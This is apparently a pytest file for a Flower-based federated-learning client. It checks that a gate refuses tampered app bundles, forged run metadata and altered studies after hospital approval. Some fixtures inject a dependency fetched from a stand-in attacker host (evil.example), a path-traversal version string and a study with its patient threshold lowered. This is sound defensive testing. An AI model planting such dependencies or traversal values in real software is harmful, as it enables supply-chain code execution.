"""Attack (g): the server changes the app, or the study, after the hospital approved it."""

from __future__ import annotations

import hashlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from flwr.app import Context, Message
from flwr.cli.install import install_from_fab
from flwr.clientapp import ClientApp
from flwr.common.constant import ErrorCode

from client.app import answer, app
from client.gate import approvals
from common.flower.app import FlowerApp, installed_app
from common.masking import identity
from common.messages.codec import decode
from common.messages.exchanges import EnrolReply, EnrolRequest, Problem, SumRequest
from common.study.model import Study
from common.study.release_mark import own_release
from tests.attacks.egress.bundling import bundle


def with_code() -> bytes:
    """The release's app and one file more, which would take the place of a module."""
    return bundle({**installed_app().files, "client/app.py": b"print('anything')\n"})


def with_another_component() -> bytes:
    """The release's two files, but another object of another module is to be the ClientApp."""
    files = installed_app().files
    config = files["pyproject.toml"].replace(b'"client.app:app"', b'"antigravity:app"')
    return bundle({**files, "pyproject.toml": config})


def with_a_dependency() -> bytes:
    """The release's two files, but something is to be installed."""
    files = installed_app().files
    config = files["pyproject.toml"].replace(
        b'["flwr', b'["evil @ https://evil.example/x.whl", "flwr'
    )
    return bundle({**files, "pyproject.toml": config})


def with_bytes_behind() -> bytes:
    """The release's app to the byte, and more after its end."""
    return installed_app().content + b"\x00"


CHANGED = [with_code, with_another_component, with_a_dependency, with_bytes_behind]


@pytest.mark.parametrize("changed", CHANGED[:3])
def test_flower_itself_would_install_a_changed_app(
    changed: Callable[[], bytes], tmp_path: Path
) -> None:
    assert install_from_fab(changed(), tmp_path, skip_prompt=True).is_dir()


def handed_over(node: Any, monkeypatch: pytest.MonkeyPatch, content: bytes, **said: str) -> None:
    """The server hands over these bytes, and says of the run what is not true."""
    honest = node._run

    def run(run_id: int) -> Any:
        reported = honest(run_id)
        for name, value in said.items():
            setattr(reported, name, value)
        return reported

    node.fab = content
    monkeypatch.setattr(node, "_run", run)


def test_without_the_gate_a_changed_app_runs(
    approved_node: Any, enrolment: EnrolRequest, monkeypatch: pytest.MonkeyPatch
) -> None:
    fab = with_code()
    handed_over(approved_node, monkeypatch, fab, fab_hash=hashlib.sha256(fab).hexdigest())
    approved_node.ask("query.enrol", enrolment, app)
    assert approved_node.ran == ["query.enrol"]


@pytest.mark.parametrize("changed", CHANGED)
def test_a_changed_app_does_not_run(
    changed: Callable[[], bytes],
    approved_node: Any,
    gated: Any,
    enrolment: EnrolRequest,
    gate_log: Any,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    fab = changed()
    handed_over(approved_node, monkeypatch, fab, fab_hash=hashlib.sha256(fab).hexdigest())
    gated()
    reply = approved_node.ask("query.enrol", enrolment, app)
    assert approved_node.ran == []
    assert decode(reply.content).kind == "other_release"
    assert "other_release" in gate_log()


@pytest.mark.parametrize("changed", CHANGED)
def test_a_changed_app_under_the_releases_own_name_does_not_run(
    changed: Callable[[], bytes],
    approved_node: Any,
    gated: Any,
    enrolment: EnrolRequest,
    gate_log: Any,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The server states the right digest and then hands over other bytes."""
    handed_over(approved_node, monkeypatch, changed())
    gated()
    reply = approved_node.ask("query.enrol", enrolment, app)
    assert approved_node.ran == []
    assert reply.error.code == ErrorCode.INVALID_FAB
    assert "handed over another app" in gate_log()


def test_a_run_that_changes_between_two_questions_is_the_one_that_was_judged(
    approved_node: Any, gated: Any, enrolment: EnrolRequest, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Flower asks for the run again: the server could then name another folder of apps."""
    asked: list[int] = []
    honest = approved_node._run

    def run(run_id: int) -> Any:
        asked.append(run_id)
        reported = honest(run_id)
        if len(asked) > 1:
            reported.fab_version = f"{reported.fab_version}/../../../evil"
        return reported

    monkeypatch.setattr(approved_node, "_run", run)
    gated()
    approved_node.ask("query.enrol", enrolment, app)
    assert approved_node.state.get_run(1).fab_version == installed_app().version


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("fab_id", "fedlnm/other"),
        ("fab_version", "0.1.0/../../../evil"),
        ("fab_hash", "0" * 64),
        ("run_id", 2),
        ("primary_task_type", "flwr-agentapp"),
        ("primary_task_type", "flwr-simulation"),
    ],
)
def test_a_run_of_which_the_server_says_anything_else_does_not_run(
    field: str,
    value: Any,
    approved_node: Any,
    gated: Any,
    enrolment: EnrolRequest,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    handed_over(approved_node, monkeypatch, installed_app().content, **{field: value})
    gated()
    reply = approved_node.ask("query.enrol", enrolment, app)
    assert approved_node.ran == []
    assert decode(reply.content).kind == "other_release"


def test_the_app_of_another_release_is_refused_and_the_site_reads_which(
    approved_node: Any,
    gated: Any,
    enrolment: EnrolRequest,
    gate_log: Any,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    other = FlowerApp("9.9")
    said = {"fab_version": other.version, "fab_hash": other.digest}
    handed_over(approved_node, monkeypatch, other.content, **said)
    gated()
    reply = approved_node.ask("query.enrol", enrolment, app)
    assert approved_node.ran == []
    assert decode(reply.content).kind == "other_release"
    assert "install the newest release '9.9' here" in gate_log()
    assert f"release {own_release()} is installed here" in gate_log()


def test_the_releases_own_app_runs_without_anybodys_approval(
    approved_node: Any, gated: Any, enrolment: EnrolRequest
) -> None:
    gated()
    reply = approved_node.ask("query.enrol", enrolment, app)
    assert isinstance(decode(reply.content), EnrolReply)


def test_revoking_a_study_holds_within_a_run(
    approved_node: Any, gated: Any, settings: Any, study: Study, enrolment: EnrolRequest
) -> None:
    gated()
    approved_node.ask("query.enrol", enrolment, app)
    private = identity.load(settings.identity).private
    approvals.revoke(settings.work, private, study.digest())
    reply = approved_node.ask("query.enrol", enrolment, app)
    assert decode(reply.content).kind == "study_not_approved"
    assert approved_node.ran == ["query.enrol"]


def lowered(study: Study) -> EnrolRequest:
    """The study with a threshold of one patient."""
    privacy = study.privacy.model_copy(update={"min_rows": 1})
    other = study.model_copy(update={"privacy": privacy})
    return EnrolRequest(run="r", study=other.digest(), study_json=other.model_dump_json())


def test_without_the_gate_a_changed_study_is_answered(approved_node: Any, study: Study) -> None:
    bare = ClientApp()
    bare.query("enrol")(answer)
    reply = approved_node.ask("query.enrol", lowered(study), bare)
    assert isinstance(decode(reply.content), EnrolReply)


def test_a_changed_study_is_refused_before_the_app_runs(
    approved_node: Any, gated: Any, study: Study, gate_log: Any
) -> None:
    gated()
    reply = approved_node.ask("query.enrol", lowered(study), app)
    assert decode(reply.content).kind == "study_not_approved"
    assert approved_node.ran == []
    assert "study_not_approved" in gate_log()


def test_another_study_under_the_approved_digest_is_refused(
    approved_node: Any, gated: Any, study: Study
) -> None:
    request = EnrolRequest(run="r", study=study.digest(), study_json=lowered(study).study_json)
    gated()
    reply = approved_node.ask("query.enrol", request, app)
    assert decode(reply.content).kind == "study_unknown"
    assert approved_node.ran == []


def test_a_sum_for_a_study_that_is_not_approved_is_refused(approved_node: Any, gated: Any) -> None:
    request = SumRequest(run="r", study="0" * 64, session="s", number=0, items=(), keys=())
    gated()
    reply = approved_node.ask("query.sum", request, app)
    assert decode(reply.content).kind == "study_not_approved"
    assert approved_node.ran == []


def test_a_message_that_is_not_in_the_catalogue_does_not_run(
    approved_node: Any, gated: Any, enrolment: EnrolRequest
) -> None:
    def anything(message: Message, context: Context) -> Message:
        return Message(message.content, reply_to=message)

    gated()
    reply = approved_node.ask("query.everything", enrolment, anything)
    assert isinstance(decode(reply.content), Problem)
    assert decode(reply.content).kind == "unknown_exchange"
    assert approved_node.ran == []
